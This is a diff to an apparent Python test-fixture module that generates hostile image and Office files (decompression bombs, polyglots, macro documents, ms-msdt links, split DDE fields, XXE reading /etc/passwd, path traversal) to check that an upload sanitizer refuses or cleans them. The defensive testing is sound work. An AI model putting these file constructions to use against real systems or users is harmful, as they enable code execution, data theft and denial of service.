@@ -1,12 +1,14 @@
 """Hostile files, made on the spot. Each active part carries CANARY, which must not be found in what is kept."""
 
 import io
+import struct
 import zipfile
 import zlib
 from itertools import pairwise
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name, String
+from PIL import Image
 
 CANARY = b"canary-5f3a"
 SCRIPT = String("app.alert('canary-5f3a')")
@@ -632,3 +634,383 @@ def objects_unpacking_to_100_megabytes():
     table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([index]) for kind, place, index in rows)
     body = stream(table, b"/Type/XRef/W[1 4 1]/Size 6/Root 1 0 R")
     return head + box + b"5 0 obj\n" + body + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at
+
+
+# --- pictures -----------------------------------------------------------------------------------------
+
+OTHER_REFUSED, OTHER_KEPT = {}, {}  # name → (generator, the kind it claims to be, acceptable reasons)
+
+
+def refused_as(kind, *reasons):
+    """Registers a generator of a picture or office file that must be turned away for one of these reasons."""
+    return lambda make: OTHER_REFUSED.setdefault(make.__name__, (make, kind, set(reasons)))[0]
+
+
+def kept_as(kind):
+    """Registers a generator of a picture or office file that is taken, without what it hides."""
+    return lambda make: OTHER_KEPT.setdefault(make.__name__, (make, kind))[0]
+
+
+def drawn_picture(form, size=(80, 60), mode="RGB", **options):
+    out = io.BytesIO()
+    Image.new(mode, size, 200).save(out, form, **options)
+    return out.getvalue()
+
+
+def png_chunk(name, content):
+    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
+
+
+def png(width, height, *chunks):
+    """A PNG written by hand, whatever its head claims."""
+    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + png_chunk(b"IEND", b"")
+
+
+@refused_as("png", "not_accepted")
+def svg_named_png():
+    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
+
+
+@refused_as("png", "picture_size")
+def png_of_50_000_by_50_000():
+    return png(50_000, 50_000, png_chunk(b"IDAT", squeezed(b"\0" * 1000)))
+
+
+@refused_as("png", "picture_size")
+def png_of_37_million_pixels_that_packs_well():
+    return drawn_picture("PNG", (6100, 6100), "L")
+
+
+@refused_as("jpeg", "picture_size")
+def jpeg_of_60_000_by_60_000():
+    whole = drawn_picture("JPEG")
+    at = whole.index(b"\xff\xc0")
+    return whole[: at + 5] + struct.pack(">HH", 60_000, 60_000) + whole[at + 9 :]
+
+
+@refused_as("png", "cut_off", "damaged")
+def truncated_png():
+    whole = drawn_picture("PNG", (900, 700))
+    return whole[: len(whole) // 2]
+
+
+@refused_as("jpeg", "cut_off", "damaged")
+def truncated_jpeg():
+    whole = drawn_picture("JPEG", (900, 700))
+    return whole[: len(whole) // 2]
+
+
+@refused_as("png", "cut_off", "damaged")
+def png_head_and_noise():
+    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20
+
+
+@refused_as("jpeg", "cut_off", "damaged")
+def jpeg_head_and_script():
+    return b"\xff\xd8\xff<script>alert('canary-5f3a')</script>"
+
+
+@refused_as("png", "not_accepted")
+def gif_named_png():
+    return drawn_picture("GIF")
+
+
+@refused_as("jpeg", "not_accepted")
+def tiff_named_jpeg():
+    return drawn_picture("TIFF")
+
+
+@refused_as("png", "cut_off", "damaged", "heavy", "picture_size")
+def png_with_a_text_unpacking_to_a_gigabyte():
+    text = squeezed(squeezed(b" " * 200 * 1024 * 1024))
+    return png(8, 8, png_chunk(b"iTXt", b"k\0\1\0\0\0" + text), png_chunk(b"IDAT", b"broken"))
+
+
+@kept_as("jpeg")
+def jpeg_with_a_web_page_behind():
+    return drawn_picture("JPEG") + b"<html><script>alert('canary-5f3a')</script></html>"
+
+
+@kept_as("jpeg")
+def jpeg_that_is_a_zip_too():
+    return drawn_picture("JPEG") + zip_archive()
+
+
+@kept_as("jpeg")
+def jpeg_with_a_script_as_comment():
+    return drawn_picture("JPEG", comment=b"*/alert('canary-5f3a')/*")
+
+
+@kept_as("jpeg")
+def jpeg_that_tells_where_it_was_taken():
+    exif = Image.Exif()
+    exif[0x010E] = CANARY.decode()  # description
+    exif.get_ifd(0x8825)[29] = CANARY.decode()  # the satellite's day
+    return drawn_picture("JPEG", exif=exif)
+
+
+@kept_as("png")
+def png_with_a_script_as_text():
+    return png(2, 1, png_chunk(b"tEXt", b"Comment\0" + CANARY), png_chunk(b"IDAT", squeezed(b"\0" + b"\7" * 6)))
+
+
+@kept_as("png")
+def png_with_a_program_behind():
+    return drawn_picture("PNG") + PROGRAM
+
+
+@kept_as("png")
+def png_with_an_unknown_part():
+    return png(2, 1, png_chunk(b"caNa", CANARY), png_chunk(b"IDAT", squeezed(b"\0" + b"\7" * 6)))
+
+
+@kept_as("jpeg")
+def jpeg_in_printing_colours():
+    return drawn_picture("JPEG", mode="CMYK", comment=CANARY)
+
+
+# --- Word and Excel -----------------------------------------------------------------------------------
+
+SCHEMA = "http://schemas.openxmlformats.org"
+DECLARED = {
+    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
+    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
+}
+
+
+def types(kind, more=""):
+    main, declared = DECLARED[kind]
+    office = f"application/vnd.openxmlformats-officedocument.{declared}"
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{SCHEMA}/package/2006/content-types">'
+        f'<Default Extension="xml" ContentType="application/xml"/>{more}'
+        f'<Override PartName="/{main}" ContentType="{office}"/></Types>'
+    )
+
+
+def relations(*rows):
+    """A .rels part; each row is kind, target, mode."""
+    inner = "".join(
+        f'<Relationship Id="r{n}" Type="{SCHEMA}/officeDocument/2006/relationships/{kind}" Target="{aim}" {mode}/>'
+        for n, (kind, aim, mode) in enumerate(rows)
+    )
+    return f'<Relationships xmlns="{SCHEMA}/package/2006/relationships">{inner}</Relationships>'
+
+
+OUTSIDE = 'TargetMode="External"'
+
+
+def office(kind="docx", *, parts=None, main="<w:document xmlns:w='w'/>", declared=None, pack=zipfile.ZIP_DEFLATED):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", pack) as archive:
+        archive.writestr("[Content_Types].xml", types(kind) if declared is None else declared)
+        archive.writestr("_rels/.rels", relations(("officeDocument", DECLARED[kind][0], "")))
+        archive.writestr(DECLARED[kind][0], main)
+        for name, content in (parts or {}).items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def of_word(*rows):
+    return office(parts={"word/_rels/document.xml.rels": relations(*rows)})
+
+
+@refused_as("docx", "not_office")
+def zip_that_is_no_document():
+    return zip_archive()
+
+
+@refused_as("xlsx", "not_office")
+def word_named_excel():
+    return office("docx")
+
+
+@refused_as("docx", "unpacked")
+def word_unpacking_to_200_megabytes():
+    return office(parts={"word/media/a.png": b"\0" * 200 * 1024 * 1024})
+
+
+@refused_as("docx", "unpacked", "not_office")
+def word_that_lies_about_its_size():
+    """The directory declares ten bytes where a hundred and fifty million follow."""
+    whole = bytearray(office(parts={"word/media/a.png": b"\0" * 150_000_000}))
+    real, said = struct.pack("<L", 150_000_000), struct.pack("<L", 10)
+    return bytes(whole).replace(real, said)
+
+
+@refused_as("xlsx", "unpacked")
+def excel_of_ten_thousand_parts():
+    return office("xlsx", parts={f"xl/worksheets/sheet{n}.xml": "<a/>" for n in range(10_000)}, pack=zipfile.ZIP_STORED)
+
+
+@refused_as("docx", "embedded")
+def word_with_a_zip_inside():
+    return office(parts={"word/media/inner.zip": zip_archive()})
+
+
+@refused_as("docx", "embedded")
+def word_with_a_zip_named_picture():
+    return office(parts={"word/media/image1.png": zip_archive()})
+
+
+@refused_as("docx", "embedded")
+def word_with_a_program_named_picture():
+    return office(parts={"word/media/image1.emf": PROGRAM})
+
+
+@refused_as("docx", "macros")
+def word_with_macros():
+    return office(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + CANARY})
+
+
+@refused_as("docx", "macros")
+def docm_named_docx():
+    declared = types("docx").replace(
+        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
+    )
+    return office(declared=declared)
+
+
+@refused_as("xlsx", "macros")
+def excel_with_old_macro_sheets():
+    return office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"})
+
+
+@refused_as("docx", "macros")
+def word_with_macros_under_another_name():
+    declared = types("docx", '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>')
+    return office(declared=declared, parts={"word/a.xml": "<a/>"})
+
+
+@refused_as("docx", "external")
+def word_with_a_template_from_elsewhere():
+    return of_word(("attachedTemplate", "https://canary-5f3a.example.invalid/a.dotm", OUTSIDE))
+
+
+@refused_as("docx", "external")
+def word_with_a_template_hidden_by_entities():
+    return of_word(("attachedTemplate", "https&#58;//canary-5f3a/a.dotm", 'TargetMode="&#69;xternal"'))
+
+
+@refused_as("docx", "external")
+def word_with_a_picture_from_elsewhere():
+    return of_word(("image", "file://canary-5f3a/a.png", OUTSIDE))
+
+
+@refused_as("docx", "external")
+def word_with_a_link_that_starts_a_handler():
+    return of_word(("hyperlink", "ms-msdt:/id PCWDiagnostic canary-5f3a", OUTSIDE))
+
+
+@refused_as("docx", "embedded")
+def word_with_an_ole_object():
+    return of_word(("oleObject", "embeddings/oleObject1.bin", ""))
+
+
+@refused_as("docx", "embedded")
+def word_with_an_embedded_sheet():
+    return office(parts={"word/embeddings/sheet.xlsx": office("xlsx")})
+
+
+@refused_as("docx", "embedded")
+def word_with_a_control():
+    return office(parts={"word/activeX/activeX1.xml": "<a/>"})
+
+
+@refused_as("docx", "embedded")
+def word_with_a_web_page_inside():
+    return office(parts={"word/afchunk.html": "<script>alert('canary-5f3a')</script>"})
+
+
+@refused_as("docx", "external")
+def word_with_a_dde_field_in_pieces():
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EAU", "TO cmd canary-5f3a"))
+    return office(main=f"<w:document xmlns:w='w'><w:fldChar w:fldCharType='begin'/>{runs}</w:document>")
+
+
+@refused_as("docx", "external")
+def word_with_a_picture_fetched_by_a_field():
+    field = "<w:fldSimple w:instr='INCLUDEPICTURE http://canary-5f3a/a.png'/>"
+    return office(main=f"<w:document xmlns:w='w'>{field}</w:document>")
+
+
+@refused_as("xlsx", "external")
+def excel_with_a_link_to_another_book():
+    return office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<a/>"})
+
+
+@refused_as("xlsx", "external")
+def excel_with_a_book_beside_it_by_relation():
+    rows = relations(("externalLinkPath", "\\\\canary-5f3a\\share\\a.xlsx", OUTSIDE))
+    return office("xlsx", parts={"xl/_rels/workbook.xml.rels": rows})
+
+
+@refused_as("docx", "not_office")
+def word_with_entities_from_the_disk():
+    return office(main='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
+
+
+@refused_as("docx", "not_office")
+def word_with_a_billion_laughs_in_utf_16():
+    return office(main='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "ha">]><a/>'.encode("utf-16"))
+
+
+@refused_as("docx", "not_office")
+def word_in_a_script_nobody_reads():
+    return office(main='<?xml version="1.0" encoding="UTF-7"?><a/>')
+
+
+@refused_as("docx", "not_office")
+def word_that_climbs_out_of_its_folder():
+    return office(parts={"../../word/a.xml": "<a/>"})
+
+
+@refused_as("docx", "not_office")
+def word_with_two_parts_of_one_name():
+    return office(parts={"WORD/document.xml": "<other/>"})
+
+
+@refused_as("docx", "encrypted")
+def word_locked_part_by_part():
+    whole = bytearray(office())
+    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = whole.find(mark)
+        while at >= 0:
+            whole[at + flags] |= 1
+            at = whole.find(mark, at + 4)
+    return bytes(whole)
+
+
+@refused_as("docx", "not_accepted")
+def old_binary_word():
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + CANARY
+
+
+@refused_as("docx", "not_office", "damaged")
+def truncated_word():
+    whole = office(parts={"word/media/a.png": bytes(range(256)) * 500})
+    return whole[: len(whole) // 2]
+
+
+@kept_as("docx")
+def word_with_something_between_its_parts():
+    return office() + CANARY
+
+
+@kept_as("docx")
+def word_with_a_comment_on_the_archive():
+    out = io.BytesIO(office())
+    with zipfile.ZipFile(out, "a") as archive:
+        archive.comment = CANARY
+    return out.getvalue()
+
+
+@kept_as("docx")
+def word_with_a_web_address_to_click_on():
+    return of_word(("hyperlink", "https://www.example.invalid/", OUTSIDE))
+
+
+@kept_as("xlsx")
+def excel_with_printer_settings():
+    return office("xlsx", main="<workbook/>", parts={"xl/printerSettings/printerSettings1.bin": b"\0" * 40})
